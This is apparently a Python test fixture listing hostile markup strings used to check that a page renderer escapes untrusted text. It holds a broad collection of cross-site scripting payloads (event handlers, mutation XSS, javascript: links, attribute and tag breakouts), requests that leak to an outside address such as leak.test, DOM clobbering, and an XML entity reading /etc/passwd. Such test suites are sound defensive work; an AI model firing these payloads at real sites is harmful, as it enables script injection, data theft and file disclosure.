"""`MARKUP`: texts that do harm in a page by their tags, attributes and addresses."""

from __future__ import annotations

from typing import Final

from tests.hostile.harm import IMAGE, RUN, TO, Hostile, asks, differs, runs

__all__ = ["MARKUP"]

_ELEMENTS = (
    *("script", "style", "title", "textarea", "svg", "text", "g", "div", "span", "u", "i", "bdi"),
    *("b", "p", "h1", "h2", "h3", "code", "ul", "li", "a", "details", "summary", "header", "main"),
    *("nav", "section", "article", "figure", "footer", "table", "caption", "thead", "tbody", "tr"),
    *("th", "td", "button", "select", "option", "output", "fieldset", "legend", "label"),
    *("template", "noscript", "iframe", "xmp", "head", "body", "html"),
)
"""What pages and widgets of ours are made of, and what swallows text."""

_CLICKED = '<a href="%s">a</a><script>document.querySelector("a").click()</script>'

_SCRIPTS = {
    "script": runs(f"<script>{RUN}</script>"),
    "script in odd letters": runs(f"<ScRiPt\t>{RUN}</sCrIpT\n>"),
    "script without an end": runs(f"<script>{RUN}//", '<div class="cs-text">%s</script></div>'),
    "script module": runs(f"<script type=module>{RUN}</script>"),
    "script within a script": differs(f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    "img onerror": runs(f"a {IMAGE} b"),
    "img onerror, slashes": runs(f'<img/src="x:"/onerror={RUN}>'),
    "svg onload": runs(f"<svg onload={RUN}>"),
    "svg script": runs(f"<svg><script>{RUN}</script></svg>"),
    "svg animate": runs(f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>"),
    "svg foreignObject": runs(f"<svg><foreignObject>{IMAGE}</foreignObject></svg>"),
    "math and style, mutating": runs(f"<math><mtext><table><mglyph><style><!--</style>{IMAGE}"),
    "noscript, mutating": runs(f'<noscript><p title="</noscript>{IMAGE}">'),
    "body onload": runs(f"<body onload={RUN}>"),
    "details ontoggle": runs(f"<details open ontoggle={RUN}>a</details>"),
    "input autofocus": runs(f"<input autofocus onfocus={RUN}>"),
    "tabindex autofocus": runs(f"<p tabindex=1 autofocus onfocus={RUN}>a</p>"),
    "video source": runs(f"<video><source onerror={RUN} src=x:></video>"),
    "animation": runs(
        f"<style>@keyframes k{{}}</style><p style=animation:k.1s onanimationstart={RUN}>a"
    ),
    "declarative shadow root": runs(
        f"<p><template shadowrootmode=open>{IMAGE}</template></p>",
        '<div class="cs-text">%s</div>',
    ),
    "iframe srcdoc": runs(f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'),
    "iframe javascript": runs(f'<iframe src="javascript:parent.{RUN}"></iframe>'),
    "object": runs('<object data="data:text/html,<script>console.log(1)</script>"></object>'),
    "embed": runs('<embed src="data:text/html,<script>console.log(1)</script>">'),
    "a form that sends itself": asks(
        f"<form action={TO}f><input autofocus name=a onfocus=this.form.submit()></form>"
    ),
    "clobbering": differs(
        "<form id=documentElement><input name=attributes><input name=id></form>"
        "<a id=__ran></a><img name=body><a id=model><a id=model name=get href=x:>"
    ),
}

_REQUESTS = {
    "img src": asks(f"<img src={TO}i>"),
    "img srcset": asks(f'<img srcset="{TO}s 1x">'),
    "svg image": asks(f"<svg><image href={TO}s width=9 height=9 /></svg>"),
    "script src": asks(f"<script src={TO}s.js></script>"),
    "style import": asks(f"<style>@import url({TO}c);</style>"),
    "style background": asks(f"<style>*{{background:url({TO}b)}}</style>"),
    "style attribute": asks(f"<p style='background:url({TO}b)'>a</p>"),
    "link stylesheet": asks(f"<link rel=stylesheet href={TO}c>"),
    "link prefetch": asks(f"<link rel=preload as=image href={TO}p>"),
    "link dns-prefetch": differs(f"<link rel=dns-prefetch href={TO}d>"),
    "base": asks(f"<base href={TO}><img src=b>"),
    "iframe": asks(f"<iframe src={TO}f></iframe>"),
    "object data": asks(f"<object data={TO}o></object>"),
    "audio": asks(f"<audio autoplay src={TO}a></audio>"),
    "video poster": asks(f"<video poster={TO}v></video>"),
    "input image": asks(f"<input type=image src={TO}i>"),
    "meta refresh": asks(f'<meta http-equiv=refresh content="0;url={TO}m">'),
    "css of a style": asks(f"}}*{{background:url({TO}c)}}", "<style>a{%s}</style>a"),
    "css import": asks(f'@import "{TO}i";', "<style>%s</style>"),
    "css url": asks(f"url({TO}u)", '<p style="background:%s">a</p>'),
    "css of a colour": asks(f"red;background:url({TO}c)", '<p style="color:%s">a</p>'),
    "address": asks(f"{TO}x", '<img src="%s">'),
    "address, https": asks("https://leak.test/?q=1&copy=2", "<img src='%s'>"),
}

_ATTRIBUTES = {
    "quote and handler": runs(f'a" tabindex=1 autofocus onfocus="{RUN}', '<p title="%s">a</p>'),
    "apostrophe and handler": runs(
        f"a' tabindex=1 autofocus onfocus='{RUN}", "<p title='%s'>a</p>"
    ),
    "blank and handler": runs(f"a tabindex=1 autofocus onfocus={RUN}", "<p title=%s>a</p>"),
    "quote and tag": runs(f'"><script>{RUN}</script>', '<p title="%s">a</p>'),
    "apostrophe and tag": runs(f"'><script>{RUN}</script>", "<p title='%s'>a</p>"),
    "backslash and quote": runs(f'\\"><script>{RUN}</script>', '<p title="%s">a</p>'),
    "backtick": runs(f"`;{RUN};`", "<script>let a=`%s`</script>"),
    "javascript link": runs(f"javascript:{RUN}", _CLICKED),
    "javascript link, disguised": runs(f" \x01JaVa\tScRi\npt:{RUN}", _CLICKED),
    "data link": runs("data:text/html,<script>console.log(1)</script>", "<iframe src='%s'>"),
    "template string": runs(f"${{{RUN}}}", "<script>`%s`</script>"),
    "string of a script": runs(f"';{RUN};//", "<script>let a='%s'</script>"),
    "line separators in a script": runs(f"\u2028{RUN}\u2029", "<script>// %s</script>"),
}

_ENDS = {
    "</script>": runs(f"</script>{IMAGE}", '<script type="application/json">"%s"</script>'),
    "</style>": runs(f"</style>{IMAGE}", "<style>%s</style>"),
    "</title>": runs(f"</title>{IMAGE}", "<title>%s</title>"),
    "</textarea>": runs(f"</textarea>{IMAGE}", "<textarea>%s</textarea>"),
    "</svg>": runs(f"</text></svg>{IMAGE}", "<svg><text>%s</text></svg>"),
    "</noscript>": runs(f"</noscript>{IMAGE}", "<noscript>%s</noscript>"),
    "</template>": runs(f"</template>{IMAGE}", "<template>%s</template>"),
    "</select>": runs(f"</option></select>{IMAGE}", "<select><option>%s</select>"),
    "-->": runs(f"-->{IMAGE}", "<!-- %s -->"),
    "--!>": runs(f"--!>{IMAGE}", "<!-- %s -->"),
    "]]>": runs(f"]]>{IMAGE}", "<svg><![CDATA[%s]]></svg>"),
    "every end": runs("".join(f"</{name}>" for name in _ELEMENTS) + IMAGE),
    "an end of a div": differs("</div>a"),
    "ends of all around": differs("</div></div></main></body></html>a"),
}

_MARKUP = {
    "bold": differs("<b>a</b>"),
    "a comment without an end": differs("a <!-- b"),
    "a comment": differs("a<!---->b<!-->c"),
    "cdata": differs("<![CDATA[a]]>"),
    "processing instruction": differs('<?xml version="1.0"?><?php a ?>'),
    "doctype with an entity": differs(
        '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
    ),
    "style that hides": differs("<style>.chunkscope{display:none}</style>"),
    "template": differs("<template><b>a</b></template>"),
    "plaintext": differs("<plaintext>a"),
    "textarea": differs("<textarea>a"),
    "select": differs("<select><option>a"),
    "table that throws out": differs("<table>a<tr>b<td>c"),
    "frameset": differs("<frameset><frame></frameset>"),
    "a thousand elements deep": differs("<b><i>" * 500 + "a"),
    "a tag without an end": differs("a <b title='"),
    "entities": differs("&lt;script&gt; &amp;amp; &#60;b&#62; &#x3c;"),
    "entities without an end": differs("&ltb&gt &notit &copy2 &AMP"),
    "entities of controls": differs("&#0;&#128;&#xD800;&#13;&#x202e;&NewLine;&Tab;&nbsp;"),
    "a badge of ours": differs('<span class="cs-cut cs-of-a" data-label="9 hard"></span>'),
    "a sign of ours": differs('<i class="cs-x" data-g="NUL" title="U+0000">\u2400</i>'),
    "a text of ours": differs('</span></div><div class="cs-text" dir="auto"><span class="cs-b">'),
    "a button of ours": differs(
        '<button type="button" class="cs-button" data-event=\'{"event":"clear"}\'>a</button>'
    ),
    "an attribute of ours": differs(
        '0" data-chunk="9" data-copy="a" data-event="{&quot;event&quot;:1}', '<p title="%s">a</p>'
    ),
}

MARKUP: Final[dict[str, Hostile]] = {**_SCRIPTS, **_REQUESTS, **_ATTRIBUTES, **_ENDS, **_MARKUP}
"""Name -> a text."""
